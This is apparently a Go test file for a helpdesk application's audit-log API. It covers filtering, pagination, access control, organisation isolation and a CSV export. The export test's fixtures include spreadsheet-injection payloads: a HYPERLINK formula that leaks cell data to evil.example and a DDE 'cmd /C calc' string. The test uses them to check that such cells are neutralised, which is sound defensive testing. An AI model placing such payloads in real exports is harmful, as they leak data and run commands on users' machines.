package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/atumdesk/atumdesk/internal/audit"
)

// auditFixture writes one audit row.
func (s *stack) auditFixture(org uuid.UUID, ticket, user *uuid.UUID, action, userAgent string) {
	s.t.Helper()
	id := uuid.New()
	require.NoError(s.t, audit.Write(context.Background(), s.db, audit.Entry{OrgID: &org, TicketID: ticket, UserID: user,
		Action: action, EntityType: "ticket", EntityID: &id, After: map[string]string{"subject": "=1+1"},
		IP: "192.0.2.7", UserAgent: userAgent, RequestID: "req-" + id.String()[:8]}))
}

type auditPage struct {
	Items []struct {
		ID        int64      `json:"id"`
		TicketID  *uuid.UUID `json:"ticket_id"`
		UserID    *uuid.UUID `json:"user_id"`
		Action    string     `json:"action"`
		IP        *string    `json:"ip"`
		UserAgent *string    `json:"user_agent"`
	} `json:"items"`
	NextCursor string `json:"next_cursor"`
}

func (s *stack) auditPage(path, token string) auditPage {
	s.t.Helper()
	res := s.do("GET", path, token, nil)
	require.Equal(s.t, 200, res.status, string(res.body))
	var p auditPage
	require.NoError(s.t, json.Unmarshal(res.body, &p))
	return p
}

// TestAudit runs the query and export cases on one stack; they tell their
// rows apart by action.
func TestAudit(t *testing.T) {
	s := newStack(t)
	t.Run("query", func(t *testing.T) { testAuditQuery(t, s) })
	t.Run("csv export", func(t *testing.T) { testAuditCSVExport(t, s) })
}

func testAuditQuery(t *testing.T, s *stack) {
	acme, globex := s.orgs["acme"], s.orgs["globex"]
	cuID, agentID := s.userID("customer_user@acme.test"), s.userID("agent@acme.test")
	manager, agent := s.login("manager@acme.test"), s.login("agent@acme.test")
	ticket, other := s.newTicket(acme, cuID, "audited"), s.newTicket(acme, cuID, "other")
	gTicket := s.newTicket(globex, s.userID("customer_user@globex.test"), "theirs")

	s.auditFixture(acme, &ticket, &agentID, "test.alpha", "ua")
	s.auditFixture(acme, &ticket, &cuID, "test.alpha", "ua")
	s.auditFixture(acme, &other, &agentID, "test.beta", "ua")
	s.auditFixture(globex, &gTicket, nil, "test.alpha", "ua")
	time.Sleep(20 * time.Millisecond)
	mid := time.Now().UTC()
	time.Sleep(20 * time.Millisecond)
	s.auditFixture(acme, &ticket, &agentID, "test.alpha", "ua")
	s.auditFixture(acme, nil, &cuID, "test.gamma", "ua")

	q := func(v url.Values) []string {
		var actions []string
		for _, it := range s.auditPage("/api/v1/audit?"+v.Encode(), manager).Items {
			actions = append(actions, it.Action)
		}
		return actions
	}
	require.Len(t, q(url.Values{"action": {"test.alpha"}}), 3, "the other organisation's row is not listed")
	require.Len(t, q(url.Values{"action": {"test.*"}}), 5)
	require.Len(t, q(url.Values{"action": {"test.*"}, "user_id": {cuID.String()}}), 2)
	require.Len(t, q(url.Values{"action": {"test.*"}, "ticket_id": {ticket.String()}}), 3)
	require.Equal(t, []string{"test.gamma", "test.alpha"}, q(url.Values{"action": {"test.*"}, "from": {mid.Format(time.RFC3339Nano)}}))
	require.Len(t, q(url.Values{"action": {"test.*"}, "to": {mid.Format(time.RFC3339Nano)}}), 3)
	require.Empty(t, q(url.Values{"ticket_id": {gTicket.String()}}))

	// Keyset pages, newest first, nothing twice, nothing missed.
	var ids []int64
	path := "/api/v1/audit?action=test.*&limit=2"
	for pages := 0; ; pages++ {
		require.Less(t, pages, 5)
		p := s.auditPage(path, manager)
		for _, it := range p.Items {
			ids = append(ids, it.ID)
		}
		if p.NextCursor == "" {
			break
		}
		path = "/api/v1/audit?action=test.*&limit=2&after=" + p.NextCursor
	}
	require.Len(t, ids, 5)
	for i := 1; i < len(ids); i++ {
		require.Greater(t, ids[i-1], ids[i])
	}

	for _, bad := range []string{"user_id=nope", "ticket_id=1", "from=yesterday", "to=2026-13-01T00:00:00Z", "after=abc", "limit=0", "limit=1000",
		"from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z"} {
		res := s.do("GET", "/api/v1/audit?"+bad, manager, nil)
		require.Equal(t, 422, res.status, "%s: %s", bad, res.body)
	}
	require.Equal(t, 403, s.do("GET", "/api/v1/audit", agent, nil).status)

	// One ticket's history: staff; IP and user agent only for auditors.
	th := s.auditPage(ticketPath(ticket, "/audit")+"?action=test.*", agent)
	require.Len(t, th.Items, 3)
	for _, it := range th.Items {
		require.Equal(t, ticket, *it.TicketID)
		require.Nil(t, it.IP)
		require.Nil(t, it.UserAgent)
	}
	th = s.auditPage(ticketPath(ticket, "/audit")+"?action=test.*&ticket_id="+other.String(), manager)
	require.Len(t, th.Items, 3, "the path's ticket wins over a ticket_id parameter")
	require.Equal(t, "192.0.2.7", *th.Items[0].IP)
	require.Equal(t, 404, s.do("GET", ticketPath(gTicket, "/audit"), agent, nil).status)
	require.Equal(t, 403, s.do("GET", ticketPath(ticket, "/audit"), s.login("customer_admin@acme.test"), nil).status)
}

func testAuditCSVExport(t *testing.T, s *stack) {
	acme, globex := s.orgs["acme"], s.orgs["globex"]
	admin := s.login("admin@acme.test")
	// user agent sent -> cell exported
	fixtures := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'=1"}, // with CRLF line ends encoding/csv drops a lone CR
		{"   =1+1", "'   =1+1"},
		{`"=1+1`, `'"=1+1`},
		{` '"+SUM(1)`, `' '"+SUM(1)`},
		{"'=already", "''=already"},
		{"Mozilla/5.0 (X11; Linux)", "Mozilla/5.0 (X11; Linux)"},
		{"a=1, b=-2", "a=1, b=-2"},
		{"comma, \"quote\" and\nnewline", "comma, \"quote\" and\nnewline"},
	}
	for _, f := range fixtures {
		s.auditFixture(acme, nil, nil, "fixture.csv", f.in)
	}
	s.auditFixture(globex, nil, nil, "fixture.csv", "globex secret")

	res := s.do("GET", "/api/v1/audit/export.csv?action=fixture.csv", admin, nil)
	require.Equal(t, 200, res.status, string(res.body))
	require.True(t, strings.HasPrefix(res.header.Get("Content-Type"), "text/csv"))
	require.Contains(t, res.header.Get("Content-Disposition"), "attachment")
	require.NotContains(t, string(res.body), "globex secret")
	require.True(t, bytes.HasSuffix(res.body, []byte("\r\n")), "RFC 4180 lines end in CRLF")

	r := csv.NewReader(bytes.NewReader(res.body))
	rows, err := r.ReadAll()
	require.NoError(t, err, "the export parses as strict CSV")
	require.Len(t, rows, len(fixtures)+1)
	header := rows[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return -1
	}
	ua, after, id := col("user_agent"), col("after"), col("id")
	// Newest first: the fixtures in reverse.
	for i, row := range rows[1:] {
		want := fixtures[len(fixtures)-1-i].want
		require.Equal(t, want, row[ua], "row %d", i)
		require.Equal(t, `{"subject": "=1+1"}`, row[after], "JSON cells start with {: left alone")
		_, err := strconv.ParseInt(row[id], 10, 64)
		require.NoError(t, err)
		for _, cell := range row {
			if rest := strings.TrimLeft(cell, ` "'`); rest != "" && strings.ContainsRune("=+-@\t\r", rune(rest[0])) {
				require.True(t, strings.HasPrefix(cell, "'"), "unneutralised cell %q", cell)
			}
		}
	}
	require.EqualValues(t, 1, s.count(`SELECT count(*) FROM audit_log WHERE action = 'audit.exported' AND org_id = ?`, acme))
}
